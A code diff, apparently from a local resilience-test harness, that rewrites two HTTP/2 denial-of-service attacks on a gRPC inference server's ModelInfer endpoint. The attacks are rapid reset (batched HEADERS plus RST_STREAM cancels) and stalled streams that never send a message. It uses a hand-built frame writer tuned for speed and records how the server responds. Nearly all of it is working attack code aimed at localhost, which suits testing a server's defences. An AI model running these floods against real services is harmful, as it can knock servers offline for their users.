@@ -24,7 +24,7 @@ import subprocess
 import sys
 import time
 import zlib
-from collections.abc import AsyncIterator, Callable
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -238,91 +238,142 @@ def png_chunk_flood(chunks: int, width: int = 64, height: int = 64) -> bytes:
 MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"
 
 
-async def stalled_grpc_streams(port: int, connections: int, streams: int, hold_s: float,
-                               metadata: tuple[tuple[str, str], ...] = ()) -> dict[str, int]:
-    """``connections`` HTTP/2 connections each opening ``streams`` ModelInfer calls that send HEADERS and
-    never a message, held up to ``hold_s``; returns how the calls ended (status name -> count)."""
-    import grpc
-    import grpc.aio
+_GRPC_STATUS = {"0": "OK", "1": "CANCELLED", "4": "DEADLINE_EXCEEDED", "8": "RESOURCE_EXHAUSTED",
+                "14": "UNAVAILABLE", "16": "UNAUTHENTICATED"}
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 1, 3, 4, 6, 7
+_END_HEADERS, _ACK = 0x4, 0x1
 
-    never = asyncio.Event()
 
-    async def nothing() -> AsyncIterator[bytes]:
-        await never.wait()
-        yield b""  # pragma: no cover - never reached
+def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
 
-    async def one(channel: grpc.aio.Channel) -> str:
-        call = channel.stream_unary(MODEL_INFER)(nothing(), metadata=metadata, timeout=hold_s)
+
+class RawH2:
+    """A bare HTTP/2 client connection: writes prebuilt frames fast (the h2 package's state machine
+    took 0.8 ms a stream, too slow to press a server) and reads the server's frames into outcomes."""
+
+    def __init__(self, port: int, metadata: tuple[tuple[str, str], ...] = ()) -> None:
+        import hpack
+
+        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
+        self.sock.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
+        headers = [(":method", "POST"), (":scheme", "http"), (":path", MODEL_INFER),
+                   (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers"),
+                   *metadata]
+        encoder = hpack.Encoder()
+        self._blocks = [encoder.encode(headers), encoder.encode(headers)]  # the second: all indexed, reusable
+        self._decoder = hpack.Decoder()
+        self._next = 1
+        self._pending = b""
+        #: Calls the server has ended (with a gRPC status) since the last :meth:`take_ended`.
+        self.ended = 0
+
+    def take_ended(self) -> int:
+        ended, self.ended = self.ended, 0
+        return ended
+
+    def open_streams(self, count: int, *, reset: bool = False) -> None:
+        """HEADERS for ``count`` new ModelInfer calls (no message), each followed by RST_STREAM(CANCEL) if ``reset``."""
+        frames = []
+        for _ in range(count):
+            block = self._blocks[0] if self._next == 1 else self._blocks[1]
+            frames.append(_frame(_HEADERS, _END_HEADERS, self._next, block))
+            if reset:
+                frames.append(_frame(_RST_STREAM, 0, self._next, (8).to_bytes(4, "big")))
+            self._next += 2
+        self.sock.sendall(b"".join(frames))
+
+    def outcomes(self, wait_s: float) -> list[str]:
+        """What the server said within ``wait_s``: a gRPC status name per call it ended, ``refused
+        (HTTP/2 error N)`` per stream it reset; raises ``ConnectionError`` when it closed the connection."""
+        self.sock.settimeout(wait_s)
         try:
-            await call
-        except grpc.aio.AioRpcError as error:
-            return str(error.code().name)
-        return "OK"
+            received = self.sock.recv(1 << 20)
+        except TimeoutError:
+            return []
+        if not received:
+            raise ConnectionError("closed by the server")
+        data = self._pending + received
+        found, replies, position = [], [], 0
+        while position + 9 <= len(data):
+            length = int.from_bytes(data[position:position + 3], "big")
+            if position + 9 + length > len(data):
+                break
+            kind, flags = data[position + 3], data[position + 4]
+            payload = data[position + 9:position + 9 + length]
+            position += 9 + length
+            if kind == _HEADERS:
+                fields = dict(self._decoder.decode(payload))
+                if "grpc-status" in fields:
+                    found.append(_GRPC_STATUS.get(fields["grpc-status"], f"status {fields['grpc-status']}"))
+                    self.ended += 1
+            elif kind == _RST_STREAM and int.from_bytes(payload, "big"):
+                found.append(f"refused (HTTP/2 error {int.from_bytes(payload, 'big')})")
+            elif kind == _SETTINGS and not flags & _ACK:
+                replies.append(_frame(_SETTINGS, _ACK, 0))
+            elif kind == _PING and not flags & _ACK:
+                replies.append(_frame(_PING, _ACK, 0, payload))
+            elif kind == _GOAWAY:
+                found.append(f"GOAWAY (HTTP/2 error {int.from_bytes(payload[4:8], 'big')})")
+        self._pending = data[position:]
+        if replies:
+            self.sock.sendall(b"".join(replies))
+        return found
 
-    # A channel of its own per connection: grpc would otherwise share one subchannel between them.
-    channels = [grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=[("grpc.use_local_subchannel_pool", 1),
-                                                                          ("grpc.attacker", index)])
-                for index in range(connections)]
-    try:
-        ended = await asyncio.gather(*(one(channel) for channel in channels for _ in range(streams)))
-    finally:
-        await asyncio.gather(*(channel.close() for channel in channels))
-    counts: dict[str, int] = {}
-    for name in ended:
-        counts[name] = counts.get(name, 0) + 1
-    return counts
+    def close(self) -> None:
+        self.sock.close()
 
 
-def _h2_connection(port: int) -> tuple[socket.socket, object]:
-    import h2.config
-    import h2.connection
-
-    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
-    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
-    connection.initiate_connection()
-    sock.sendall(connection.data_to_send())
-    return sock, connection
-
-
-def rapid_reset(port: int, connections: int, seconds: float, batch: int = 100) -> int:
-    """HTTP/2 rapid reset: on each connection, HEADERS for a ModelInfer call then RST_STREAM(CANCEL) at
-    once, ``batch`` streams per write, for ``seconds``; returns the streams opened and reset."""
-    import h2.errors
-    import h2.exceptions
-
-    headers = [(":method", "POST"), (":scheme", "http"), (":path", MODEL_INFER), (":authority", f"127.0.0.1:{port}"),
-               ("content-type", "application/grpc"), ("te", "trailers")]
-    opened = [_h2_connection(port) for _ in range(connections)]
-    total = 0
-    deadline = time.monotonic() + seconds
+def _press(port: int, connections: int, hold_s: float, turn: Callable[[RawH2, int], int],
+           metadata: tuple[tuple[str, str], ...] = ()) -> dict[str, int]:
+    """Run ``turn(connection, index)`` over ``connections`` raw connections until ``hold_s`` passes
+    (a connection the server closes is replaced); ``turn`` returns how many streams it opened."""
+    tally: dict[str, int] = {"streams opened": 0}
+    opened = [RawH2(port, metadata) for _ in range(connections)]
+    deadline = time.monotonic() + hold_s
     try:
         while time.monotonic() < deadline:
-            for sock, connection in opened:
+            for index, connection in enumerate(opened):
                 try:
-                    for _ in range(batch):
-                        stream = connection.get_next_available_stream_id()  # type: ignore[attr-defined]
-                        connection.send_headers(stream, headers)  # type: ignore[attr-defined]
-                        connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)  # type: ignore[attr-defined]
-                        total += 1
-                    sock.sendall(connection.data_to_send())  # type: ignore[attr-defined]
-                    sock.setblocking(False)
-                    try:
-                        while received := sock.recv(1 << 20):
-                            connection.receive_data(received)  # type: ignore[attr-defined]
-                    except (BlockingIOError, h2.exceptions.ProtocolError):
-                        pass
-                    finally:
-                        sock.setblocking(True)
-                    sock.sendall(connection.data_to_send())  # type: ignore[attr-defined]
-                except (OSError, h2.exceptions.ProtocolError):
-                    # The server gave up on this connection (GOAWAY or a close): open a new one.
-                    sock.close()
-                    index = [pair[0] for pair in opened].index(sock)
-                    opened[index] = _h2_connection(port)
+                    tally["streams opened"] += turn(connection, index)
+                    for outcome in connection.outcomes(0.01):
+                        tally[outcome] = tally.get(outcome, 0) + 1
+                except OSError:
+                    connection.close()
+                    tally["connections closed by the server"] = tally.get("connections closed by the server", 0) + 1
+                    opened[index] = RawH2(port, metadata)
     finally:
-        for sock, _ in opened:
-            sock.close()
-    return total
+        for connection in opened:
+            connection.close()
+    return tally
+
+
+def stalled_grpc_streams(port: int, connections: int, streams: int, hold_s: float,
+                         metadata: tuple[tuple[str, str], ...] = ()) -> dict[str, int]:
+    """``connections`` HTTP/2 connections, each sending HEADERS for ``streams`` ModelInfer calls and never a
+    message, for ``hold_s``: each call the server ends is opened again, so the connection keeps asking
+    for ``streams``. Returns how the server ended them (a gRPC status name, or the HTTP/2 reset of a
+    stream it refused)."""
+
+    def turn(connection: RawH2, index: int) -> int:
+        count = streams if connection._next == 1 else connection.take_ended()
+        if count:
+            connection.open_streams(count)
+        return count
+
+    return _press(port, connections, hold_s, turn, metadata)
+
+
+def rapid_reset(port: int, connections: int, seconds: float, batch: int = 200) -> dict[str, int]:
+    """HTTP/2 rapid reset: on each connection, HEADERS for a ModelInfer call and RST_STREAM(CANCEL) at
+    once, ``batch`` streams a write, for ``seconds``; returns the streams opened and what came back."""
+
+    def turn(connection: RawH2, index: int) -> int:
+        connection.open_streams(batch, reset=True)
+        return batch
+
+    return _press(port, connections, seconds, turn)
 
 
 def main(argv: list[str]) -> None:
@@ -335,9 +386,9 @@ def main(argv: list[str]) -> None:
     elif kind == "grpc-stall":
         key = argv[5] if len(argv) > 5 else None
         metadata = (("authorization", f"Bearer {key}"),) if key else ()
-        print(json.dumps(asyncio.run(stalled_grpc_streams(port, int(argv[2]), int(argv[3]), float(argv[4]), metadata))))
+        print(json.dumps(stalled_grpc_streams(port, int(argv[2]), int(argv[3]), float(argv[4]), metadata)))
     elif kind == "rapid-reset":
-        print(json.dumps({"reset_streams": rapid_reset(port, int(argv[2]), float(argv[3]))}))
+        print(json.dumps(rapid_reset(port, int(argv[2]), float(argv[3]))))
     else:
         raise SystemExit(f"unknown attack {kind!r}")
 
